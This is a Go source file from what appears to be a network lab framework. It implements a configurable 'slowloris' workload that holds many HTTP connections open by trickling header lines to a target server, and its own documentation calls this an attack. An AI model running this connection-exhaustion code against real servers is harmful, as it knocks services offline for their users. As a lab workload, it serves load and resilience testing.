package flood

import (
	"context"
	"errors"
	"fmt"
	"math"
	"strings"
	"sync"
	"time"

	"netlab/services"
	"netlab/services/target"
	"netlab/tcp"
	"netlab/units"
)

// maxConnections limits a host: a client has so many ports for one server.
const maxConnections = 60_000

// SlowConfig configures the workload "slowloris".
type SlowConfig struct {
	To          services.Target `json:"to" jsonschema_description:"The HTTP server. The port is 80 when it is left out." jsonschema:"required"`
	Connections int             `json:"connections" jsonschema_description:"How many connections each host holds. One that the server closes is opened again." jsonschema:"default=100"`
	Interval    units.Duration  `json:"interval" jsonschema_description:"Time from one line of a header to the next." jsonschema:"default=10s"`
	RampUp      units.Duration  `json:"ramp_up,omitempty" jsonschema_description:"Time over which the connections of a host are opened, evenly. Default 0s: all at once."`
	Reconnect   units.Duration  `json:"reconnect" jsonschema_description:"Wait until a connection that was closed or refused is opened again." jsonschema:"default=1s"`
	Duration    units.Duration  `json:"duration,omitempty" zero:"refused" jsonschema_description:"How long it goes on. Default: until the end of the run."`
}

// NewSlowConfig returns the defaults.
func NewSlowConfig() *SlowConfig {
	return &SlowConfig{Connections: 100, Interval: units.Duration(10 * time.Second), Reconnect: units.Duration(time.Second)}
}

const httpPort = 80

// Validate implements services.Config.
func (c *SlowConfig) Validate() error {
	list := []error{target.CheckPort("to", c.To)}
	add := func(field, format string, args ...any) { list = append(list, services.Fieldf(field, format, args...)) }
	if c.Connections < 1 || c.Connections > maxConnections {
		add("connections", "found %d, wanted 1 to %d", c.Connections, maxConnections)
	}
	for _, d := range []struct {
		field string
		value units.Duration
		least time.Duration
	}{{"interval", c.Interval, 1}, {"ramp_up", c.RampUp, 0}, {"reconnect", c.Reconnect, 1}, {"duration", c.Duration, 0}} {
		if d.value.Std() < d.least {
			add(d.field, "found %s, wanted more than 0s", d.value)
		}
	}
	return errors.Join(list...)
}

// Endless implements services.Config.
func (c *SlowConfig) Endless() bool { return c.Duration == 0 }

// Calls implements services.Caller.
func (c *SlowConfig) Calls() []services.Call {
	return []services.Call{target.Call("to", c.To, services.TCP, httpPort)}
}

// Slowloris describes the workload.
var Slowloris = services.Type{
	Name: "slowloris", Role: services.Workload,
	Doc: "Opens HTTP connections and sends the header of a request one line at a time, so slowly that it is never complete: an attack that " +
		"takes a server's places for connections with next to no traffic.",
	Config: func() services.Config { return NewSlowConfig() },
	Result: func() any { return new(SlowResult) },
	New: func(config services.Config, _ services.Info) (services.Runner, error) {
		return &slowRunner{config: *config.(*SlowConfig)}, nil
	},
}

// SlowResult is what the workload reports, over all hosts that it ran on.
type SlowResult struct {
	// Opened counts connections that were made, Refused those that could not be, Closed those that the server ended. MaxOpen is the most
	// that were open at once, over all hosts.
	Opened  uint64 `json:"opened"`
	Refused uint64 `json:"refused"`
	Closed  uint64 `json:"closed"`
	MaxOpen uint64 `json:"max_open"`
	// Lines counts lines of headers, Bytes what they and the requests' first lines weigh.
	Lines uint64      `json:"lines"`
	Bytes units.Bytes `json:"bytes"`
}

type slowRunner struct {
	config SlowConfig
	mu     sync.Mutex
	result SlowResult
	open   uint64
}

// Run implements services.Runner.
func (r *slowRunner) Run(ctx context.Context, env *services.Env) error {
	c := &r.config
	address, err := target.Address(c.To, httpPort)
	if err != nil {
		return err
	}
	start := env.Elapsed()
	end := time.Duration(math.MaxInt64)
	if c.Duration > 0 {
		end = start + c.Duration.Std()
	}
	for i := range c.Connections {
		env.Go(func() {
			// Each connection has its own events, the last one too: what ends at one time ends one after the other.
			begin := start + c.RampUp.Std()*time.Duration(i)/time.Duration(c.Connections)
			for begin < end && env.SleepUntil(ctx, begin) == nil {
				r.hold(ctx, env, address, end)
				if env.Over(ctx) {
					return
				}
				begin = env.Elapsed() + c.Reconnect.Std()
			}
		})
	}
	env.Wait()
	return nil
}

func (r *slowRunner) count(change func(*SlowResult)) {
	r.mu.Lock()
	defer r.mu.Unlock()
	change(&r.result)
}

// hold opens a connection and holds it until the server ends it, or until it is time to end.
func (r *slowRunner) hold(ctx context.Context, env *services.Env, address string, end time.Duration) {
	conn, err := r.dial(ctx, env, address, end)
	if err != nil {
		if !env.Over(ctx) && env.Elapsed() < end {
			r.count(func(s *SlowResult) { s.Refused++ })
		}
		return
	}
	defer conn.Abort()
	open, closed := context.WithCancel(ctx)
	defer closed()
	r.count(func(s *SlowResult) {
		s.Opened++
		r.open++
		s.MaxOpen = max(s.MaxOpen, r.open)
	})
	env.Go(func() { // the server ends the connection, or answers, which ends its usefulness too
		conn.Read(make([]byte, 1))
		closed()
	})
	text := fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\n", hostField(address))
	for line := 1; ; line++ {
		if _, err := conn.Write([]byte(text)); err != nil {
			break
		}
		r.count(func(s *SlowResult) {
			s.Lines++
			s.Bytes += units.Bytes(len(text))
		})
		next := env.Elapsed() + r.config.Interval.Std()
		if env.SleepUntil(open, min(next, end)) != nil || next >= end {
			break
		}
		text = fmt.Sprintf("X-%d: %d\r\n", line, line)
	}
	r.count(func(s *SlowResult) {
		r.open--
		if !env.Over(ctx) && env.Elapsed() < end {
			s.Closed++
		}
	})
}

// dial connects, if that takes no longer than until the end.
func (r *slowRunner) dial(ctx context.Context, env *services.Env, address string, end time.Duration) (*tcp.Conn, error) {
	if r.config.Duration > 0 {
		var cancel context.CancelFunc
		ctx, cancel = env.WithTimeout(ctx, end-env.Elapsed())
		defer cancel()
	}
	return tcp.Dial(ctx, env.Host, address)
}

// hostField is the value of a Host field for an address: without the port of HTTP.
func hostField(address string) string {
	return strings.TrimSuffix(address, ":80")
}

// Result implements services.Runner.
func (r *slowRunner) Result() any {
	r.mu.Lock()
	defer r.mu.Unlock()
	result := r.result
	return &result
}
